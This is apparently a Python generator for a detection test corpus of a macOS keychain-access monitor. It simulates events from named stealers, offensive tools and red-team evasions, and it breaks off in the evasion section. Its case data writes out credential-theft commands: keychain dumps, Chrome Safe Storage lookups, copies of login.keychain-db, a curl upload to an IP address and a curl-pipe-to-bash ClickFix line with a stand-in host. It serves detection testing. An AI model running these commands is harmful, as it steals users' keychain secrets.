#!/usr/bin/env python3
"""Generate the field corpus of keychain_access (stdlib only, deterministic).

    python3 tests/field/gen_field.py           # write tests/field/<case>.ndjson + cases.json, then self-check
    python3 tests/field/gen_field.py --check   # only re-run the self-check on the files on disk

Each case is one behaviour taken from a public source — the source code of benign software that
calls `security` or opens keychain files, or the public write-up / source of a stealer or offensive
tool — written as the eslogger events it produces on a Mac, and named after that source. Three labels:

  attack   a real stealer or offensive tool, as its source describes it     (must alert)
  benign   real software doing its job, as its source shows it              (at most one may alert)
  evasion  a red team's attempt to get past the README's rules: argv tricks, file-level theft,
           allowlist and identity abuse                                     (must alert)

The event model (paths, audit tokens, signing flags, fork/exec/exit, eslogger framing) is the one of
tests/fixtures/gen_fixtures.py, imported from there; these streams also carry fork and exit events
(the extension subscribes to both). Process images this corpus adds are declared below with the
signing they have in the field: Developer ID apps with their team id where the vendor publishes it
(otherwise a team id marked `illustrative`), Homebrew and Go builds ad hoc, stealers unsigned or ad
hoc as their write-ups report.
"""
from __future__ import annotations

import argparse
import json
import sys
from dataclasses import dataclass
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent / "fixtures"))
import gen_fixtures as g  # noqa: E402
from gen_fixtures import (  # noqa: E402
    ALICE, DP_DB, F_REDIRECT, FREAD, FRW, FWRITE, GUI_ASID, HOME, KC_DIR, LOGIN_KC, O_CREAT, O_TRUNC,
    ROOT_DAEMON, ROOT_CERTS, SEC, SYS_KC, SYSTEMKEY, TMPDIR, World, securityd_io, sudo_run,
)

g.EVENT_TYPES["link"] = 19  # ES_EVENT_TYPE_NOTIFY_LINK (EndpointSecurity/ESTypes.h)

# ---------------------------------------------------------------------------------------------
# Images this corpus adds: (path, signing id, kind, team id)
# ---------------------------------------------------------------------------------------------
IMG = g._img
# Apple platform binaries
for _p, _s in [
    ("/usr/bin/tar", "com.apple.tar"), ("/usr/bin/rsync", "com.apple.rsync"),
    ("/usr/bin/hdiutil", "com.apple.hdiutil"), ("/usr/bin/sqlite3", "com.apple.sqlite3"),
    ("/bin/ln", "com.apple.ln"), ("/bin/mv", "com.apple.mv"), ("/sbin/mount_apfs", "com.apple.mount_apfs"),
    ("/usr/bin/tmutil", "com.apple.tmutil"), ("/usr/bin/ssh-add", "com.apple.ssh-add"),
    ("/usr/bin/strings", "com.apple.strings"), ("/usr/bin/base64", "com.apple.base64"),
    ("/System/Applications/Mail.app/Contents/MacOS/Mail", "com.apple.mail"),
    ("/System/Library/PrivateFrameworks/DiskImages2.framework/Versions/A/XPCServices/diskimagescontroller.xpc/"
     "Contents/MacOS/diskimagescontroller", "com.apple.diskimagescontroller"),
    ("/System/Library/CoreServices/Applications/Migration Assistant.app/Contents/MacOS/Migration Assistant",
     "com.apple.MigrationAssistant"),
]:
    IMG(_p, _s)
# Developer ID (team ids: vendor-published where noted in the case sources, else illustrative)
GH = "/usr/local/bin/gh"
IMG(GH, "gh", "devid", "ILLUSTR0GH")
IMG("/opt/homebrew/Cellar/gh/2.63.0/bin/gh", "gh-55d1f8a2c3b4e6f7", "linker")
IMG("/usr/local/bin/op", "com.1password.op", "devid", "2BUA8C4S2C")
ONEPW = "/Applications/1Password.app/Contents/MacOS/1Password"
IMG(ONEPW, "com.1password.1password", "devid", "2BUA8C4S2C")
KEEPER = "/Applications/Keeper Password Manager.app/Contents/MacOS/Keeper Password Manager"
IMG(KEEPER, "com.keepersecurity.passwordmanager", "devid", "ILLUSTRKEEP")
BITWARDEN = "/Applications/Bitwarden.app/Contents/MacOS/Bitwarden"
IMG(BITWARDEN, "com.bitwarden.desktop", "devid", "LTZ2PFU5D6")
CHROME = "/Applications/Google Chrome.app/Contents/MacOS/Google Chrome"
IMG(CHROME, "com.google.Chrome", "devid", "EQHXZ8M8AV")
CODE_HELPER = "/Applications/Visual Studio Code.app/Contents/Frameworks/Code Helper.app/Contents/MacOS/Code Helper"
IMG(CODE_HELPER, "com.microsoft.VSCode.helper", "devid", "UBF8T346G9")
IDEA = "/Applications/IntelliJ IDEA.app/Contents/MacOS/idea"
IMG(IDEA, "com.jetbrains.intellij", "devid", "2ZEFAR8TH3")
QEMU = f"{HOME}/Library/Android/sdk/emulator/qemu/darwin-aarch64/qemu-system-aarch64"
IMG(QEMU, "qemu-system-aarch64", "devid", "EQHXZ8M8AV")
DOCKER_CRED = "/Applications/Docker.app/Contents/Resources/bin/docker-credential-osxkeychain"
IMG(DOCKER_CRED, "docker-credential-osxkeychain", "devid", "9BNSXJN65R")
DBEAVER = "/Applications/DBeaver.app/Contents/MacOS/dbeaver"
IMG(DBEAVER, "org.jkiss.dbeaver.core.product", "devid", "42B6MDKMW8")
SLACK = "/Applications/Slack.app/Contents/MacOS/Slack"
IMG(SLACK, "com.tinyspeck.slackmacgap", "devid", "BQR82RBBHL")
CCC = "/Library/PrivilegedHelperTools/com.bombich.ccchelper"
IMG(CCC, "com.bombich.ccchelper", "devid", "L5N2X4X9F2")
SUPERDUPER = "/Applications/SuperDuper!.app/Contents/MacOS/SDCopy"
IMG(SUPERDUPER, "com.blacey.SDCopy", "devid", "ILLUSTRSDUP")
ARQ = "/Applications/Arq.app/Contents/Resources/ArqAgent.app/Contents/MacOS/ArqAgent"
IMG(ARQ, "com.haystacksoftware.ArqAgent", "devid", "48ZCSDVL96")
BZ = "/Library/Backblaze.bzpkg/bztransmit"
IMG(BZ, "com.backblaze.bztransmit", "devid", "QZMT8VFPRG")
JAMF = "/usr/local/jamf/bin/jamf"
MUNKI_PY = "/usr/local/munki/Python.framework/Versions/3.12/Resources/Python.app/Contents/MacOS/Python"
NODE = "/usr/local/bin/node"
HB_RUBY = "/opt/homebrew/Cellar/ruby/3.3.6/bin/ruby"
IMG(HB_RUBY, "ruby", "adhoc")
# Stealers and offensive tools, as their write-ups report them
AMOS_DMG = "/Volumes/Installer/Installer.app/Contents/MacOS/Installer"
BANSHEE = "/Volumes/Chrome Setup/Chrome Setup.app/Contents/MacOS/Chrome Setup"
IMG(BANSHEE, None, "unsigned")
CUCKOO = f"{HOME}/Library/Application Support/DumpMediaSpotifyConverter/upd"
IMG(CUCKOO, "upd-55aa31c2e9f0", "adhoc")
REALST = "/Volumes/Brawl Earth/Brawl Earth.app/Contents/MacOS/brawl"
IMG(REALST, None, "unsigned")
METASTEALER = "/Volumes/Contract/Contract.app/Contents/MacOS/Contract"
IMG(METASTEALER, "a.out", "adhoc")
CTHULHU = "/Volumes/GTA IV/GTA IV.app/Contents/MacOS/GTA IV"
IMG(CTHULHU, None, "unsigned")
POSEIDON_AGENT = "/Users/Shared/.poseidon"
IMG(POSEIDON_AGENT, "poseidon-4d2a9c1b", "adhoc")
METTLE = "/private/tmp/mettle"
IMG(METTLE, None, "unsigned")
NIM_AGENT = f"{HOME}/Library/CoreKit/CoreKitAgent"
IMG(NIM_AGENT, "CoreKitAgent-6b1f", "adhoc")
KCD = "/private/tmp/keychaindump"
IMG(KCD, "keychaindump-55a0d4b1c3f2e9a7", "linker")
KCD_RENAMED = "/Users/Shared/.cache/mdsync"
IMG(KCD_RENAMED, "keychaindump-55a0d4b1c3f2e9a7", "linker")
FAKE_JAMF = "/usr/local/jamf/bin/jamfHelperd"
IMG(FAKE_JAMF, "com.jamf.management.jamf", "adhoc")
FAKE_APPLE = f"{HOME}/Library/Application Support/com.apple.sysupdate/sysupdate"
IMG(FAKE_APPLE, "com.apple.sysupdate", "apple")   # valid, no team, com.apple. id, not platform
FAKE_FASTLANE = f"{HOME}/.gem/bin/fastlane"
IMG(FAKE_FASTLANE, "fastlane", "adhoc")
RENAMED_CP = f"{HOME}/bin/notes"
IMG(RENAMED_CP, "com.apple.cp", "platform")
SIGNED_STEALER = "/Applications/PDF Converter.app/Contents/MacOS/PDF Converter"
IMG(SIGNED_STEALER, "com.pdfconv.app", "devid", "ILLUSTRPDFC")

LOGIN_KC_LEGACY = f"{KC_DIR}/login.keychain"
SNAP_KC = "/private/tmp/snap/Users/alice/Library/Keychains/login.keychain-db"


def launch_app(w: World, exe, label=None, creds=ALICE, asid=GUI_ASID):
    """An app or agent started by launchd (launchd -> xpcproxy -> exe)."""
    return w.launchd_spawn(exe, [exe], creds, asid, label or f"application.{exe.rsplit('/', 1)[1]}.{g._h(exe) % 10**7}")


def link(w: World, p, src, dst):
    d, name = dst.rsplit("/", 1)
    w.emit("link", p, {"source": w.es_file(src), "target_dir": w.es_file(d, True), "target_filename": name})
    w._copy_stat(src, dst, p)


def sec_via_sh(w, parent, argv, cmd=None):
    """parent -> sh -c '<cmd>' -> security argv (securityd does the file I/O)."""
    sh = w.sh_c(parent, cmd or " ".join(argv), argv0="sh")
    sec = w.spawn(sh, SEC, argv)
    securityd_io(w, [LOGIN_KC])
    w.exit(sec)
    w.exit(sh)
    return sec


def sec_direct(w, parent, argv, stat=0):
    sec = w.spawn(parent, SEC, argv)
    securityd_io(w, [LOGIN_KC])
    w.exit(sec, stat)
    return sec


def raw_read(w, p, path=LOGIN_KC, fflag=FREAD):
    w.open(p, path, fflag)
    w.close(p, path)


# ---------------------------------------------------------------------------------------------
# Registry
# ---------------------------------------------------------------------------------------------


@dataclass
class FieldCase:
    name: str
    label: str
    description: str
    sources: list
    fn: object
    version: int = 9
    forks: bool = True


CASES: list[FieldCase] = []


def case(name, label, description, sources, version=9, forks=True):
    assert label in ("attack", "benign", "evasion"), label

    def deco(fn):
        CASES.append(FieldCase(name, label, description, sources, fn, version, forks))
        return fn
    return deco


# =============================================================================================
# Attacks: stealers and offensive tools
# =============================================================================================

@case("amos_osascript_chrome_safe_storage", "attack",
      "AMOS (Atomic macOS Stealer) AppleScript stage: osascript runs `security 2>&1 > /dev/null "
      "find-generic-password -ga 'Chrome' | awk '{print $2}'` through do shell script.",
      ["https://www.sentinelone.com/blog/atomic-stealer-threat-actor-spawns-second-variant-of-macos-malware-sold-on-telegram/",
       "https://www.trendmicro.com/en_us/research/24/i/atomic-macos-stealer-amos-clickfix.html"])
def f_amos_chrome(w, c):
    zsh = w.terminal_shell()
    osa = w.spawn(zsh, "/usr/bin/osascript", ["osascript", "-e", "do shell script \"security ...\""])
    yield
    sec_via_sh(w, osa, ["security", "find-generic-password", "-ga", "Chrome"],
               "security 2>&1 > /dev/null find-generic-password -ga 'Chrome' | awk '{print $2}'")
    c.exp("find_generic_password", SEC, True)
    w.exit(osa)


@case("amos_macho_dmg_cp_login_keychain", "attack",
      "AMOS Mach-O variant run from its mounted DMG (unsigned): copies login.keychain-db with cp into a random "
      "folder under /tmp before zipping it for upload.",
      ["https://www.sentinelone.com/blog/atomic-stealer-threat-actor-spawns-second-variant-of-macos-malware-sold-on-telegram/",
       "https://www.jamf.com/blog/infostealers-pose-threat-to-macos/"])
def f_amos_macho(w, c):
    app = launch_app(w, AMOS_DMG)
    yield
    sh = w.sh_c(app, f"cp {LOGIN_KC} /tmp/8271/login.keychain-db")
    cp = w.spawn(sh, "/bin/cp", ["cp", LOGIN_KC, "/tmp/8271/login.keychain-db"])
    raw_read(w, cp, LOGIN_KC)
    w.clone(cp, LOGIN_KC, "/private/tmp/8271/login.keychain-db")
    c.exp("keychain_read", "/bin/cp", True, "open", target_path=LOGIN_KC)
    c.exp("keychain_copy", "/bin/cp", True, "clone")
    w.exit(cp), w.exit(sh), w.exit(app)


@case("amos_finder_duplicate_keychains", "attack",
      "AMOS: `tell application \"Finder\" to duplicate` of ~/Library/Keychains/<UUID> into its staging folder; "
      "Finder performs the copy (copyfile) for the osascript that drives it.",
      ["https://www.sentinelone.com/blog/atomic-stealer-threat-actor-spawns-second-variant-of-macos-malware-sold-on-telegram/"])
def f_amos_finder(w, c):
    zsh = w.terminal_shell()
    osa = w.spawn(zsh, "/usr/bin/osascript", ["osascript", "-e", "tell application \"Finder\" to duplicate ..."])
    yield
    finder = w.daemon("finder")
    dst = "/private/tmp/salmonela/Files/keychain-2.db"
    w.copyfile(finder, DP_DB, dst)
    c.exp("keychain_copy", finder.exe, True, "copyfile", destination_path=dst)
    w.exit(osa)


@case("banshee_osascript_prompt_then_cp", "attack",
      "Banshee Stealer (unsigned app from a DMG): osascript password dialog, `dscl . authonly` check, then copies "
      "login.keychain-db into its temporary collection folder with cp, zips it with ditto.",
      ["https://www.elastic.co/security-labs/beyond-the-wail",
       "https://research.checkpoint.com/2025/banshee-macos-stealer-that-stole-code-from-macos-xprotect/"])
def f_banshee(w, c):
    app = launch_app(w, BANSHEE)
    yield
    osa = w.spawn(app, "/usr/bin/osascript", ["osascript", "-e", "display dialog \"System Preferences\" ..."])
    w.exit(osa)
    d = w.spawn(app, "/usr/bin/dscl", ["dscl", ".", "authonly", "alice", "Passw0rd!"])
    c.secret("Passw0rd!")
    w.exit(d)
    yield
    dst = f"{TMPDIR}/b4nsh33/Passwords/login.keychain-db"
    cp = w.spawn(app, "/bin/cp", ["cp", LOGIN_KC, dst])
    raw_read(w, cp)
    w.clone(cp, LOGIN_KC, dst)
    c.exp("keychain_read", "/bin/cp", True, "open")
    w.exit(cp)
    w.exit(app)


@case("banshee_brave_safe_storage", "attack",
      "Banshee Stealer browser module: reads each Chromium browser's Safe Storage key with "
      "`security find-generic-password -wa \"Brave\"`-style calls from its unsigned binary.",
      ["https://www.elastic.co/security-labs/beyond-the-wail"])
def f_banshee_brave(w, c):
    app = launch_app(w, BANSHEE)
    yield
    sec_direct(w, app, ["security", "find-generic-password", "-wa", "Brave"])
    c.exp("find_generic_password", SEC, True)
    w.exit(app)


@case("cuckoo_adhoc_copies_keychain", "attack",
      "Cuckoo (ad-hoc signed Mach-O in Application Support): copies login.keychain-db into its hidden working "
      "folder with cp and reads it back for exfiltration.",
      ["https://www.kandji.io/blog/malware-cuckoo-infostealer-spyware"])
def f_cuckoo(w, c):
    agent = launch_app(w, CUCKOO)
    yield
    dst = f"{HOME}/.local-6A3C1B/Keychains/login.keychain-db"
    sh = w.sh_c(agent, f"cp ~/Library/Keychains/login.keychain-db {dst}")
    cp = w.spawn(sh, "/bin/cp", ["cp", LOGIN_KC, dst])
    raw_read(w, cp)
    w.clone(cp, LOGIN_KC, dst)
    c.exp("keychain_copy", "/bin/cp", True, "clone", destination_path=dst)
    w.exit(cp), w.exit(sh), w.exit(agent)


@case("poseidon_stealer_applescript_read", "attack",
      "Poseidon stealer (AppleScript, delivered by malvertising): `read POSIX file` of login.keychain-db inside "
      "osascript, then writes it into its staging folder.",
      ["https://www.malwarebytes.com/blog/news/2024/06/mac-users-served-info-stealer-malware-through-google-ads"])
def f_poseidon(w, c):
    zsh = w.terminal_shell()
    osa = w.spawn(zsh, "/usr/bin/osascript", ["osascript", "/private/tmp/.x.scpt"])
    yield
    raw_read(w, osa)
    c.exp("keychain_read", "/usr/bin/osascript", True, "open")
    w.write_new(osa, "/private/tmp/.data/login.keychain-db", 2_376_704, fflag=FREAD | FWRITE | O_CREAT)
    c.exp("keychain_copy", "/usr/bin/osascript", True, "create")
    w.exit(osa)


@case("beavertail_node_reads_keychain", "attack",
      "BeaverTail (Contagious Interview, JavaScript run by node from a fake project): node opens "
      "login.keychain-db itself to upload it.",
      ["https://unit42.paloaltonetworks.com/two-campaigns-by-north-korea-bad-actors-target-job-hunters/"])
def f_beavertail(w, c):
    zsh = w.terminal_shell(cwd=f"{HOME}/interview-task")
    node = w.spawn(zsh, NODE, ["node", "server/config/.npl.js"])
    yield
    raw_read(w, node, LOGIN_KC, FREAD | 0x1000000)
    c.exp("keychain_read", NODE, True, "open")
    w.exit(node)


@case("beavertail_node_curl_upload", "attack",
      "BeaverTail follow-up: node spawns `curl -F file=@~/Library/Keychains/login.keychain-db` to its C2; curl "
      "reads the database.",
      ["https://unit42.paloaltonetworks.com/two-campaigns-by-north-korea-bad-actors-target-job-hunters/"])
def f_beavertail_curl(w, c):
    zsh = w.terminal_shell(cwd=f"{HOME}/interview-task")
    node = w.spawn(zsh, NODE, ["node", "server/config/.npl.js"])
    yield
    curl = w.spawn(node, "/usr/bin/curl", ["curl", "-F", f"file=@{LOGIN_KC}", "http://95.164.17.24:1224/uploads"])
    raw_read(w, curl)
    c.exp("keychain_read", "/usr/bin/curl", True, "open")
    w.exit(curl), w.exit(node)


@case("nimdoor_upl_bash_collects_keychain", "attack",
      "NimDoor: the bash script `upl` (run by the ad-hoc CoreKitAgent) copies login.keychain-db into a temp "
      "folder, zips it and posts it with curl.",
      ["https://www.sentinelone.com/labs/macos-nimdoor-dprk-threat-actors-target-web3-and-crypto-platforms-with-nim-based-malware/"])
def f_nimdoor(w, c):
    agent = launch_app(w, NIM_AGENT)
    yield
    bash = w.spawn(agent, "/bin/bash", ["/bin/bash", f"{HOME}/Library/CoreKit/upl"])
    dst = "/private/tmp/upload/Keychains/login.keychain-db"
    cp = w.spawn(bash, "/bin/cp", ["cp", LOGIN_KC, dst])
    raw_read(w, cp)
    w.clone(cp, LOGIN_KC, dst)
    c.exp("keychain_copy", "/bin/cp", True, "clone")
    w.exit(cp)
    z = w.spawn(bash, "/usr/bin/zip", ["zip", "-r", "/tmp/upload.zip", "/tmp/upload"])
    w.read(z, "/private/tmp/upload/Keychains/login.keychain-db")
    c.exp("keychain_read", "/usr/bin/zip", True, "open")
    w.exit(z), w.exit(bash), w.exit(agent)


@case("empire_keychaindump_decrypt", "attack",
      "Empire python/collection/osx/keychaindump_decrypt: the python agent runs `security dump-keychain -d` through "
      "a shell.",
      ["https://github.com/BC-SECURITY/Empire/tree/main/empire/server/modules/python/collection/osx"])
def f_empire_dump(w, c):
    zsh = w.terminal_shell()
    py = w.spawn(zsh, "/usr/bin/python3", ["python3", "-c", "import sys,base64;exec(base64.b64decode('aW1wb3J0IH...'))"])
    yield
    sec_via_sh(w, py, ["security", "dump-keychain", "-d", f"{KC_DIR}/login.keychain-db"])
    c.exp("dump_keychain", SEC, True)
    w.exit(py)


@case("empire_keychaindump_chainbreaker", "attack",
      "Empire python/collection/osx/keychaindump_chainbreaker: the agent runs chainbreaker over the user's "
      "login keychain.",
      ["https://github.com/BC-SECURITY/Empire/tree/main/empire/server/modules/python/collection/osx",
       "https://github.com/n0fate/chainbreaker"])
def f_empire_cb(w, c):
    zsh = w.terminal_shell()
    py = w.spawn(zsh, "/usr/bin/python3", ["python3", "-c", "exec(...)"])
    yield
    cb = w.spawn(py, "/usr/bin/python3", ["python3", "/private/tmp/chainbreaker.py", "--dump-all", LOGIN_KC])
    c.exp("tool_chainbreaker", "/usr/bin/python3", True)
    raw_read(w, cb)
    w.exit(cb), w.exit(py)


@case("empire_pillage_user", "attack",
      "Empire python/collection/osx/pillage_user: the python agent reads the user's keychains itself.",
      ["https://github.com/BC-SECURITY/Empire/tree/main/empire/server/modules/python/collection/osx"])
def f_empire_pillage(w, c):
    zsh = w.terminal_shell()
    py = w.spawn(zsh, "/usr/bin/python3", ["python3", "-c", "exec(...)"])
    yield
    raw_read(w, py, LOGIN_KC, FREAD | 0x1000000)
    raw_read(w, py, f"{KC_DIR}/metadata.keychain-db", FREAD | 0x1000000)
    c.exp("keychain_read", "/usr/bin/python3", True, "open", target_path=LOGIN_KC)
    w.exit(py)


@case("mythic_apfell_jxa_shell_security", "attack",
      "Mythic Apfell agent (JXA in osascript): its `shell` command runs `security find-generic-password -wa "
      "Chrome` with doShellScript.",
      ["https://github.com/MythicAgents/apfell"])
def f_apfell(w, c):
    zsh = w.terminal_shell()
    osa = w.spawn(zsh, "/usr/bin/osascript", ["osascript", "-l", "JavaScript", "/private/tmp/apfell.js"])
    yield
    sec_via_sh(w, osa, ["security", "find-generic-password", "-wa", "Chrome"])
    c.exp("find_generic_password", SEC, True)
    w.exit(osa)


@case("mythic_poseidon_shell_dump", "attack",
      "Mythic Poseidon agent (Go, ad hoc, hidden in /Users/Shared): `shell security dump-keychain -d` through "
      "/bin/bash -c.",
      ["https://github.com/MythicAgents/poseidon"])
def f_poseidon_agent(w, c):
    agent = launch_app(w, POSEIDON_AGENT)
    yield
    bash = w.spawn(agent, "/bin/bash", ["/bin/bash", "-c", "security dump-keychain -d login.keychain"])
    sec_direct(w, bash, ["security", "dump-keychain", "-d", "login.keychain"])
    c.exp("dump_keychain", SEC, True)
    w.exit(bash), w.exit(agent)


@case("chainbreaker_dump_all", "attack",
      "chainbreaker run by an operator: `python3 chainbreaker.py --dump-all --password ... login.keychain-db`; "
      "python reads the keychain file.",
      ["https://github.com/n0fate/chainbreaker"])
def f_chainbreaker(w, c):
    zsh = w.terminal_shell(cwd="/private/tmp/chainbreaker")
    py = w.spawn(zsh, "/usr/bin/python3", ["python3", "chainbreaker.py", "--dump-all", "--password", "s3cretKC",
                                          LOGIN_KC])
    c.secret("s3cretKC")
    raw_read(w, py, LOGIN_KC, FREAD | 0x1000000)
    c.exp("tool_chainbreaker", "/usr/bin/python3", True)
    w.exit(py)


@case("lazagne_mac_all", "attack",
      "LaZagne (macOS): `python laZagne.py all` reads the System keychain and SystemKey to decrypt it.",
      ["https://github.com/AlessandroZ/LaZagne/tree/master/Mac"])
def f_lazagne(w, c):
    zsh = w.terminal_shell(cwd="/private/tmp/LaZagne/Mac")
    sudo, py = sudo_run(w, zsh, "/usr/bin/python3", ["python3", "laZagne.py", "all"])
    c.exp("tool_lazagne", "/usr/bin/python3", True)
    raw_read(w, py, SYSTEMKEY, FREAD | 0x1000000)
    raw_read(w, py, SYS_KC, FREAD | 0x1000000)
    w.exit(py), w.exit(sudo)


@case("keychaindump_sudo", "attack",
      "keychaindump: `sudo ./keychaindump` (ad-hoc/linker-signed build) scans securityd memory for master keys "
      "and opens the login keychain.",
      ["https://github.com/juuso/keychaindump"])
def f_kcd(w, c):
    zsh = w.terminal_shell(cwd="/private/tmp")
    sudo, k = sudo_run(w, zsh, KCD, ["./keychaindump"])
    c.exp("tool_keychaindump", KCD, True)
    raw_read(w, k)
    w.exit(k), w.exit(sudo)


@case("metasploit_enum_keychain", "attack",
      "Metasploit post/osx/gather/enum_keychain from a mettle session (unsigned payload in /tmp): "
      "`security dump-keychain -d` via /bin/sh -c.",
      ["https://github.com/rapid7/metasploit-framework/blob/master/modules/post/osx/gather/enum_keychain.rb"])
def f_msf(w, c):
    m = launch_app(w, METTLE)
    yield
    sec_via_sh(w, m, ["security", "dump-keychain", "-d"])
    c.exp("dump_keychain", SEC, True)
    w.exit(m)


@case("realst_unsigned_reads_keychain", "attack",
      "Realst (Rust, unsigned fake game app on a DMG): reads login.keychain-db directly for exfiltration.",
      ["https://www.sentinelone.com/blog/realst-infostealer-targets-macos-users-with-fake-blockchain-games/"])
def f_realst(w, c):
    app = launch_app(w, REALST)
    yield
    raw_read(w, app)
    c.exp("keychain_read", REALST, True, "open")
    w.exit(app)


@case("metastealer_go_adhoc_cp", "attack",
      "MetaStealer (obfuscated Go, ad hoc, from a DMG): collects the keychain database with cp into a temp folder.",
      ["https://www.sentinelone.com/blog/macos-metastealer-new-family-of-obfuscated-go-infostealers-spread-in-targeted-attacks/"])
def f_metastealer(w, c):
    app = launch_app(w, METASTEALER)
    yield
    dst = f"{TMPDIR}/ms/kc.db"
    cp = w.spawn(app, "/bin/cp", ["cp", LOGIN_KC, dst])
    raw_read(w, cp)
    w.clone(cp, LOGIN_KC, dst)
    c.exp("keychain_copy", "/bin/cp", True, "clone", destination_path=dst)
    w.exit(cp), w.exit(app)


@case("cthulhu_stealer_keychain", "attack",
      "Cthulhu Stealer (Go clone of AMOS, unsigned DMG app): osascript password prompt, then dumps the keychain "
      "with `security dump-keychain -d`... and copies login.keychain-db.",
      ["https://www.cadosecurity.com/blog/from-the-depths-analyzing-the-cthulhu-stealer-malware-for-macos"])
def f_cthulhu(w, c):
    app = launch_app(w, CTHULHU)
    yield
    osa = w.spawn(app, "/usr/bin/osascript", ["osascript", "-e", "display dialog ..."])
    w.exit(osa)
    raw_read(w, app)
    c.exp("keychain_read", CTHULHU, True, "open")
    w.exit(app)


@case("art_t1555_001_dump_keychain_d", "attack",
      "Atomic Red Team T1555.001 #1: `security dump-keychain -d login.keychain` from a terminal.",
      ["https://github.com/redcanaryco/atomic-red-team/blob/master/atomics/T1555.001/T1555.001.md"])
def f_art_dump(w, c):
    zsh = w.terminal_shell()
    sec_direct(w, zsh, ["security", "dump-keychain", "-d", "login.keychain"])
    c.exp("dump_keychain", SEC, True)


@case("art_t1555_001_cat_copy", "attack",
      "Atomic Red Team T1555.001 #4: `cat ~/Library/Keychains/login.keychain-db > /tmp/keychain`.",
      ["https://github.com/redcanaryco/atomic-red-team/blob/master/atomics/T1555.001/T1555.001.md"])
def f_art_cat(w, c):
    zsh = w.terminal_shell()
    sh = w.sh_c(zsh, f"cat {LOGIN_KC} > /tmp/keychain")
    pre = w.fork(sh)
    w.create(pre, "/private/tmp/keychain")
    cat = w.exec(pre, "/bin/cat", ["cat", LOGIN_KC])
    raw_read(w, cat)
    c.exp("keychain_read", "/bin/cat", True, "open")
    w.exit(cat), w.exit(sh)


@case("art_t1560_001_tar_keychains", "attack",
      "Atomic Red Team T1560.001 (archive collected data): `tar -czf /tmp/k.tgz -C ~/Library Keychains`.",
      ["https://github.com/redcanaryco/atomic-red-team/blob/master/atomics/T1560.001/T1560.001.md"])
def f_art_tar(w, c):
    zsh = w.terminal_shell()
    t = w.spawn(zsh, "/usr/bin/tar", ["tar", "-czf", "/tmp/k.tgz", "-C", f"{HOME}/Library", "Keychains"])
    w.write_new(t, "/private/tmp/k.tgz", 1_200_000, close=False, fflag=FWRITE | O_CREAT | O_TRUNC)
    raw_read(w, t)
    raw_read(w, t, DP_DB)
    c.exp("keychain_read", "/usr/bin/tar", True, "open", target_path=LOGIN_KC)
    w.exit(t)


@case("mitre_export_identities_p12", "attack",
      "Private keys and certificates exported from the login keychain: `security export -k login.keychain -t "
      "identities -f pkcs12 -P ... -o /tmp/id.p12` (MITRE ATT&CK T1555.001 / T1552.004 procedure).",
      ["https://attack.mitre.org/techniques/T1555/001/", "https://attack.mitre.org/techniques/T1552/004/"])
def f_export(w, c):
    zsh = w.terminal_shell()
    sec_direct(w, zsh, ["security", "export", "-k", "login.keychain", "-t", "identities", "-f", "pkcs12", "-P",
                        "p12Secret", "-o", "/tmp/id.p12"])
    c.secret("p12Secret")
    c.exp("export", SEC, True)


@case("wifi_password_airport_item", "attack",
      "Wi-Fi password theft: `security find-generic-password -D \"AirPort network password\" -a <SSID> -w` "
      "from an osascript stage (ATT&CK T1555.001 procedure for Wi-Fi credentials).",
      ["https://attack.mitre.org/techniques/T1555/001/",
       "https://ss64.com/mac/security-find-generic-password.html"])
def f_wifi(w, c):
    zsh = w.terminal_shell()
    osa = w.spawn(zsh, "/usr/bin/osascript", ["osascript", "-e", "do shell script ..."])
    sec_via_sh(w, osa, ["security", "find-generic-password", "-D", "AirPort network password", "-a", "CorpWiFi",
                        "-w"])
    c.exp("find_generic_password", SEC, True)
    w.exit(osa)


@case("clickfix_bash_curl_upload", "attack",
      "AMOS ClickFix delivery: `bash -c \"$(curl -fsSL https://.../install.sh)\"`; the fetched script posts "
      "login.keychain-db with `curl -F`.",
      ["https://www.trendmicro.com/en_us/research/24/i/atomic-macos-stealer-amos-clickfix.html"])
def f_clickfix(w, c):
    zsh = w.terminal_shell()
    bash = w.spawn(zsh, "/bin/bash", ["bash", "-c", "$(curl -fsSL https://cdn-update.example/install.sh)"])
    yield
    curl = w.spawn(bash, "/usr/bin/curl", ["curl", "-s", "-F", f"f=@{LOGIN_KC}", "https://cdn-update.example/up"])
    raw_read(w, curl)
    c.exp("keychain_read", "/usr/bin/curl", True, "open")
    w.exit(curl), w.exit(bash)


@case("sqlite3_reads_keychain_db", "attack",
      "Raw read of the keychain database with sqlite3 (`sqlite3 ~/Library/Keychains/login.keychain-db .dump`): "
      "the file-keychain format is read outside the API (chainbreaker documents the format).",
      ["https://github.com/n0fate/chainbreaker", "https://attack.mitre.org/techniques/T1555/001/"])
def f_sqlite(w, c):
    zsh = w.terminal_shell()
    s = w.spawn(zsh, "/usr/bin/sqlite3", ["sqlite3", LOGIN_KC, ".dump"])
    raw_read(w, s, LOGIN_KC, FRW)
    c.exp("keychain_read", "/usr/bin/sqlite3", True, "open")
    w.exit(s)


@case("dump_system_keychain_sudo", "attack",
      "`sudo security dump-keychain -d /Library/Keychains/System.keychain` (Wi-Fi and 802.1X secrets), as in "
      "post-exploitation cheat sheets.",
      ["https://attack.mitre.org/techniques/T1555/001/",
       "https://github.com/redcanaryco/atomic-red-team/blob/master/atomics/T1555.001/T1555.001.md"])
def f_dump_sys(w, c):
    zsh = w.terminal_shell()
    sudo, sec = sudo_run(w, zsh, SEC, ["security", "dump-keychain", "-d", SYS_KC])
    c.exp("dump_keychain", SEC, True)
    w.exit(sec), w.exit(sudo)


@case("keychaindump_renamed_in_shared", "attack",
      "keychaindump renamed to a neutral name in /Users/Shared/.cache (linker-signed: its signing id keeps the "
      "link-time name), as Empire's osx keychaindump module drops it.",
      ["https://github.com/juuso/keychaindump",
       "https://github.com/BC-SECURITY/Empire/tree/main/empire/server/modules/python/collection/osx"])
def f_kcd_renamed(w, c):
    zsh = w.terminal_shell()
    sudo, k = sudo_run(w, zsh, KCD_RENAMED, ["mdsync"])
    c.exp("tool_keychaindump", KCD_RENAMED, True)
    w.exit(k), w.exit(sudo)


# =============================================================================================
# Evasions: a red team that has read the README
# =============================================================================================

@case("evasion_rsync_temp_name_rename", "evasion",
      "rsync into a neutral folder: the receiver writes .login.keychain-db.XXXXXX there and renames it to "
      "login.keychain-db (material outside its Keychains folder through a temporary name).",
      ["https://github.com/RsyncProject/rsync/blob/master/receiver.c (get_tmpname, finish_transfer)"])
def e_rsync(w, c):
    zsh = w.terminal_shell()
    r = w.spawn(zsh, "/usr/bin/rsync", ["rsync", "-a", LOGIN_KC, f"{HOME}/Documents/sync/"])
    raw_read(w, r)
